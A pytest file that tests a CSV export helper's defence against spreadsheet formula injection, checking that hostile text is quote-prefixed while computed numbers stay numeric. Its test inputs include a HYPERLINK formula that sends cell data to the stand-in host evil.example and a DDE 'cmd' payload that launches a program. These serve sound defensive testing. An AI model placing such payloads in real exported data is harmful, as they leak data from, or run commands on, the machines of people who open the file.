"""CSV cells for Power BI and spreadsheets: text that would run as a formula is neutralized (OWASP CSV
injection), numbers the app computed stay numbers."""
import csv
import io

import pytest

from shared.services.measure import CSV_COLUMNS, csv_cell, to_csv


@pytest.mark.parametrize("hostile", ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3",
                                     "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"])
def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_quote_prefix_and_double_quotes(hostile):
    cell = csv_cell(hostile)
    assert cell.startswith("\"'") and cell.endswith('"')
    [[parsed]] = list(csv.reader(io.StringIO(cell)))
    assert parsed == "'" + hostile


def test_numbers_the_app_computed_stay_numbers_even_when_negative():
    assert [csv_cell(v) for v in (-2.125, -3, 0.0, 7, None, True)] == ["-2.125", "-3", "0.0", "7", "", "True"]
    assert csv_cell("-2.125") == "\"'-2.125\""  # text that looks like a number is still text from data


def test_plain_text_is_written_as_before():
    assert [csv_cell(v) for v in ("lead-management", "a,b", 'say "hi"', "2026-W48")] == \
        ["lead-management", '"a,b"', '"say ""hi"""', "2026-W48"]


def test_a_report_row_with_a_hostile_process_area_is_neutralized_in_every_text_cell():
    stats = {"n": 3, "mean": 1.0}
    metric = {"metric": "cycle_time_days", "status": "ok", "treated": stats, "control": stats, "difference": -2.5,
              "ci": {"low": -4.0, "high": -1.0}, "pValue": 0.01, "method": "welch", "verdict": "-better",
              "actedShare": 0.9, "baseline": {"treated": stats, "control": stats}, "weeks": []}
    report = {"items": [{"processArea": "=HYPERLINK(\"https://evil.example\",\"x\")", "deviationPattern": "@x",
                         "actionId": "leads.reassign", "actionVersion": 1, "metrics": [metric],
                         "roi": {"total": {"value": -10.0, "low": -12.5, "high": -7.5}, "currency": "+EUR",
                                 "terms": [{"term": "costOfDelay", "value": -10.0, "inTotal": True},
                                           {"term": "throughput", "value": 50.0, "inTotal": False}],
                                 "annualized": {"value": -520.0}, "period": {"weeks": 1.0, "days": 3.0}}}]}
    header, row = list(csv.reader(io.StringIO(to_csv(report))))
    cells = dict(zip(header, row))
    assert header == CSV_COLUMNS
    assert cells["processArea"].startswith("'=") and cells["deviationPattern"] == "'@x"
    assert cells["verdict"] == "'-better" and cells["currency"] == "'+EUR"
    assert cells["difference"] == "-2.5" and cells["ciLow"] == "-4.0" and cells["roiTotal"] == "-10.0"
    assert (cells["roiLow"], cells["roiHigh"], cells["roiAnnualized"]) == ("-12.5", "-7.5", "-520.0")
    # A term shown beside the total (the same freed hours valued another way) is not a column that adds up.
    assert cells["roiCostOfDelay"] == "-10.0" and cells["roiThroughput"] == "" and cells["roiWeeks"] == "1.0"
    assert cells["roiDays"] == "3.0"  # the period as it was: weeks is floored at 1 for the projection
